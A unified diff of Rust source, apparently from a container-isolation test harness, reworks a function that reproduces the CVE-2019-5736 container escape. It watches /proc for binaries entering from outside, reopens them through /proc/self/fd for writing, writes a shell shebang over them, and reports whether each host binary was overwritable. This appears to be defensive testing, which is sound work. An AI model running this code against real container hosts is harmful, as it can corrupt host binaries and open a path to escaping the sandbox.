@@ -3,14 +3,14 @@
 
 use std::collections::BTreeMap;
 use std::fs::{File, OpenOptions};
-use std::io::{Error, Read, Write};
+use std::io::{Error, ErrorKind, Read, Write};
 use std::net::{TcpStream, UdpSocket};
 use std::os::fd::AsRawFd;
-use std::path::Path;
+use std::os::unix::fs::MetadataExt;
 use std::process::ExitCode;
 use std::time::{Duration, Instant};
 
-use rustix::fs::{CWD, Mode, OFlags, openat};
+use rustix::fs::{CWD, Mode, OFlags, StatVfsMountFlags, fstatvfs, openat};
 use rustix::mount::{MountFlags, UnmountFlags, mount, unmount};
 use rustix::net::{AddressFamily, SocketType, socket};
 
@@ -123,42 +123,50 @@ fn descriptors() -> std::io::Result<()> {
     Ok(())
 }
 
-/// CVE-2019-5736: waits for programs that come into our process namespace from outside, and tries to write to
-/// them, for two seconds.
+/// CVE-2019-5736: watches out for programs that come into our process namespace from outside, and tries to write
+/// to them, for two seconds. A line for each program that was seen, and what the last attempt was answered.
 fn steal_programs() -> std::io::Result<()> {
     println!("up");
-    let me = std::process::id().to_string();
-    let mine = std::fs::read_link("/proc/self/exe")?;
+    // what is in our own root is ours to write to
+    let identity = |path: &str| std::fs::metadata(path).map(|file| (file.dev(), file.ino()));
+    let known = [identity("/proc/self/exe")?, identity("/bin/busybox")?];
     let deadline = Instant::now() + Duration::from_secs(2);
-    let mut seen = BTreeMap::new();
-    let mut held = Vec::new();
+    let mut answers = BTreeMap::new();
+    let mut held = BTreeMap::new();
     while Instant::now() < deadline {
         for entry in std::fs::read_dir("/proc")?.flatten() {
             let pid = entry.file_name().to_string_lossy().into_owned();
-            if !pid.bytes().all(|b| b.is_ascii_digit()) || pid == me {
-                continue;
-            }
             let path = format!("/proc/{pid}/exe");
-            let Ok(target) = std::fs::read_link(&path) else { continue };
-            // what is in our own root is ours to write to
-            if target == mine || Path::new(&target).exists() || target.to_string_lossy().contains("busybox") {
+            if !pid.bytes().all(|b| b.is_ascii_digit()) {
                 continue;
             }
-            if let Ok(fd) = openat(CWD, &path, OFlags::PATH, Mode::empty()) {
-                seen.insert(target.display().to_string(), "held");
-                held.push((target.display().to_string(), fd));
+            match identity(&path) {
+                Ok(program) if !known.contains(&program) => {
+                    if let Ok(fd) = openat(CWD, &path, OFlags::PATH, Mode::empty()) {
+                        held.insert(program, fd);
+                    }
+                }
+                Err(error) if error.kind() == ErrorKind::PermissionDenied => {
+                    answers.insert((0, 0), error.to_string());
+                }
+                _ => {}
             }
         }
-        for (name, fd) in &held {
+        for (program, fd) in &held {
             let path = format!("/proc/self/fd/{}", fd.as_raw_fd());
-            if let Ok(mut file) = OpenOptions::new().write(true).open(path) {
-                seen.insert(name.clone(), "STOLEN");
-                file.write_all(b"#!/bin/sh\n").ok();
-            }
+            let answer = match OpenOptions::new().write(true).open(path) {
+                Ok(mut file) => {
+                    file.write_all(b"#!/bin/sh\n").map_or_else(|e| e.to_string(), |()| "STOLEN".to_owned())
+                }
+                Err(error) => error.to_string(),
+            };
+            // busy it is as long as anybody runs it; what counts is that it is not writable afterwards either
+            let writable = fstatvfs(fd).is_ok_and(|mount| !mount.f_flag.contains(StatVfsMountFlags::RDONLY));
+            answers.insert(*program, format!("{answer}{}", if writable { ", WRITABLE" } else { "" }));
         }
     }
-    for (name, what) in seen {
-        println!("{what} {name}");
+    for ((device, inode), answer) in answers {
+        println!("program {device}:{inode}: {answer}");
     }
     println!("done");
     Ok(())
